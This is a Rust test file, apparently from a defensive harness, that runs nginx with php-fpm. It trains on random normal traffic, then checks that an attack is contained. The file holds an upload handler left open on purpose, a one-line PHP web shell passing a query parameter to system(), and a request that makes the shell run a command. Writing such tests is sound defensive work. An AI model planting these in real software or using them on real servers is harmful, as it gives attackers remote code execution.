@@ -1,0 +1,266 @@
+//! nginx before php-fpm, and a web shell that is uploaded.
+
+use std::ffi::OsString;
+use std::fs;
+use std::io;
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::PathBuf;
+use std::process::Command;
+
+use tempfile::TempDir;
+
+use crate::client::{Connection, Dice, free_port, many};
+use crate::experiment::{Experiment, Server};
+use crate::harness::eventually;
+use crate::harness::job::folder;
+use crate::source;
+use crate::up::{Program, Up};
+
+/// What the site is made of.
+const PAGES: [(&str, &str); 4] = [
+    ("index.html", "<h1>It works</h1>\n"),
+    ("404.html", "<h1>There is no such page</h1>\n"),
+    ("hello.php", "<?php echo 'Hello, ', htmlspecialchars($_GET['name'] ?? 'you');\n"),
+    ("broken.php", "<?php throw new Exception('broken');\n"),
+];
+const GUESTBOOK: &str = r#"<?php
+$book = __DIR__ . '/uploads/guestbook';
+file_put_contents($book, date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . "\n", FILE_APPEND | LOCK_EX);
+if (filesize($book) > 10000) unlink($book);
+else echo count(file($book)), ' guests';
+"#;
+/// With the fault that it takes programs, too.
+const UPLOAD: &str = r#"<?php
+$file = $_FILES['file'];
+move_uploaded_file($file['tmp_name'], __DIR__ . '/uploads/' . basename($file['name'])) or http_response_code(500);
+echo 'stored';
+"#;
+const SHELL: &str = "<?php system($_GET['c']);";
+
+pub struct NginxPhp {
+    folder: TempDir,
+    port: u16,
+    /// Where the programs were unpacked.
+    root: PathBuf,
+}
+
+struct Answer {
+    status: u16,
+    stays_open: bool,
+}
+
+impl NginxPhp {
+    pub fn new() -> Self {
+        let script = source("../../scripts/servers");
+        let output = Command::new(&script).output().expect("scripts/servers starts");
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+        let root = PathBuf::from(String::from_utf8(output.stdout).expect("text").trim_end());
+        let it = Self { folder: folder(), port: free_port(), root };
+        for name in ["www", "www/uploads", "tmp"] {
+            fs::create_dir(it.path(name)).expect("a folder can be made");
+        }
+        // The workers are nobody.
+        for name in ["www/uploads", "tmp"] {
+            fs::set_permissions(it.path(name), fs::Permissions::from_mode(0o777)).expect("it is ours");
+        }
+        for (name, text) in PAGES.into_iter().chain([("guestbook.php", GUESTBOOK), ("upload.php", UPLOAD)]) {
+            fs::write(it.path("www").join(name), text).expect("it can be written");
+        }
+        fs::write(it.path("www/large"), vec![b'.'; 300_000]).expect("it can be written");
+        for name in ["nginx.conf", "php-fpm.conf"] {
+            let text = fs::read_to_string(source(name)).expect("it is there");
+            let text = text.replace("@FOLDER@", &it.folder.path().to_string_lossy());
+            let text = text.replace("@PORT@", &it.port.to_string());
+            fs::write(it.path(name), text).expect("it can be written");
+        }
+        it
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.folder.path().join(name)
+    }
+
+    fn program(&self, name: &'static str, options: &[&str], end: i32) -> Program {
+        let program = self.root.join("usr/sbin").join(name);
+        let options = options.iter().map(OsString::from);
+        let libraries = self.root.join("usr/lib/x86_64-linux-gnu");
+        Program {
+            name,
+            command: [program.into()].into_iter().chain(options).collect(),
+            environment: vec![("LD_LIBRARY_PATH", libraries.into())],
+            end,
+        }
+    }
+
+    fn requests(&self, dice: &mut Dice, count: usize, longest: usize) {
+        let mut left = count;
+        while left > 0 {
+            let Ok(mut connection) = Connection::to(self.port) else { continue };
+            for number in (0..(1 + dice.below(longest)).min(left)).rev() {
+                let Ok(answer) = request(&mut connection, dice, number > 0) else { break };
+                assert!(answer.status < 600);
+                left -= 1;
+                if !answer.stays_open {
+                    break;
+                }
+            }
+        }
+    }
+
+    fn rotate_logs(&self, up: &Up) {
+        for (program, log) in [("nginx", "access.log"), ("php-fpm", "php-fpm.log")] {
+            fs::rename(self.path(log), self.path(&format!("{log}.1"))).expect("there is a log");
+            up.signal(program, libc::SIGUSR1);
+            eventually("a new log", || self.path(log).exists());
+        }
+    }
+
+    fn event(&self, up: &Up, number: usize) {
+        match number {
+            0 => up.signal("nginx", libc::SIGHUP),
+            1 => self.rotate_logs(up),
+            2 => up.restart_worker("nginx", libc::SIGTERM),
+            _ => up.restart_worker("php-fpm", libc::SIGTERM),
+        }
+    }
+}
+
+fn request(connection: &mut Connection, dice: &mut Dice, stay: bool) -> io::Result<Answer> {
+    match dice.below(12) {
+        0..=2 => get(connection, "/", stay),
+        3 => get(connection, "/large", stay),
+        4 => get(connection, "/missing", stay),
+        5 | 6 => get(connection, &format!("/hello.php?name={}", dice.below(1000)), stay),
+        7 => get(connection, "/guestbook.php", stay),
+        8 => get(connection, "/missing.php", stay),
+        9 => get(connection, "/broken.php", stay),
+        10 => {
+            let content = vec![b'+'; 1 + dice.below(60_000)];
+            upload(connection, &format!("upload-{}", dice.below(20)), &content, stay)
+        }
+        _ => get(connection, "/uploads/upload-0", stay),
+    }
+}
+
+fn head(method: &str, path: &str, stay: bool) -> String {
+    let stay = if stay { "keep-alive" } else { "close" };
+    format!("{method} {path} HTTP/1.0\r\nHost: localhost\r\nConnection: {stay}\r\n")
+}
+
+fn get(connection: &mut Connection, path: &str, stay: bool) -> io::Result<Answer> {
+    connection.send(format!("{}\r\n", head("GET", path, stay)).as_bytes())?;
+    answer(connection)
+}
+
+fn upload(connection: &mut Connection, name: &str, content: &[u8], stay: bool) -> io::Result<Answer> {
+    let mut body = format!(
+        "--border\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
+         Content-Type: application/octet-stream\r\n\r\n"
+    )
+    .into_bytes();
+    body.extend(content);
+    body.extend(b"\r\n--border--\r\n");
+    let head = head("POST", "/upload.php", stay);
+    let kind = "Content-Type: multipart/form-data; boundary=border";
+    connection.send(format!("{head}{kind}\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes())?;
+    connection.send(&body)?;
+    answer(connection)
+}
+
+fn answer(connection: &mut Connection) -> io::Result<Answer> {
+    let first = connection.line()?;
+    let status = first.split(' ').nth(1).and_then(|text| text.parse().ok()).expect("a status");
+    let (mut length, mut stays_open) = (None, false);
+    loop {
+        let line = connection.line()?.to_ascii_lowercase();
+        match line.split_once(": ") {
+            Some(("content-length", text)) => length = text.parse().ok(),
+            Some(("connection", text)) => stays_open = text == "keep-alive",
+            Some(_) => {}
+            None => break,
+        }
+    }
+    match length {
+        Some(length) => connection.bytes(length)?,
+        None => connection.rest()?,
+    };
+    Ok(Answer { status, stays_open })
+}
+
+impl Server for NginxPhp {
+    const NAME: &'static str = "nginx+php";
+    const TRAININGS: u64 = 8;
+
+    fn attack_in_words(&self) -> &'static str {
+        "a web shell is uploaded, and asked to execute a command"
+    }
+
+    fn programs(&self) -> Vec<Program> {
+        let config = |name| self.path(name).to_string_lossy().into_owned();
+        vec![
+            self.program("php-fpm", &["-n", "-F", "-y", &config("php-fpm.conf")], libc::SIGQUIT),
+            self.program("nginx", &["-c", &config("nginx.conf")], libc::SIGQUIT),
+        ]
+    }
+
+    fn is_ready(&self) -> bool {
+        let answer = Connection::to(self.port).and_then(|mut it| get(&mut it, "/hello.php", false));
+        answer.is_ok_and(|answer| answer.status == 200)
+    }
+
+    fn train(&self, up: &Up, seed: u64) {
+        let mut dice = Dice::new(seed);
+        for round in 0..6 {
+            let event = dice.below(4);
+            many(
+                1 + dice.below(8),
+                1000,
+                100 * seed + round,
+                |dice, count| self.requests(dice, count, 20),
+                || {
+                    self.event(up, event);
+                    (0..10).for_each(|_| up.interrupt());
+                },
+            );
+            self.event(up, dice.below(4));
+        }
+    }
+
+    fn use_normally(&self, up: &Up) -> usize {
+        many(6, 3000, 101, |dice, count| self.requests(dice, count, 100), || ());
+        up.restart_worker("nginx", libc::SIGTERM);
+        many(1, 1000, 102, |dice, count| self.requests(dice, count, 1), || ());
+        self.rotate_logs(up);
+        many(
+            3,
+            3000,
+            103,
+            |dice, count| self.requests(dice, count, 10),
+            || {
+                up.signal("nginx", libc::SIGHUP);
+            },
+        );
+        up.restart_worker("php-fpm", libc::SIGTERM);
+        many(5, 3000, 104, |dice, count| self.requests(dice, count, 40), || ());
+        3000 + 1000 + 3000 + 3000
+    }
+
+    fn attack(&self) {
+        let command = format!("echo+pwned>{}", self.effect().display());
+        let _ = Connection::to(self.port).and_then(|mut connection| {
+            upload(&mut connection, "shell.php", SHELL.as_bytes(), false)?;
+            let mut connection = Connection::to(self.port)?;
+            get(&mut connection, &format!("/uploads/shell.php?c={command}"), false)
+        });
+    }
+
+    fn effect(&self) -> PathBuf {
+        self.path("www/uploads/pwned")
+    }
+}
+
+#[test]
+fn a_web_shell_is_held() {
+    let it = Experiment::new(NginxPhp::new());
+    it.is_held();
+}
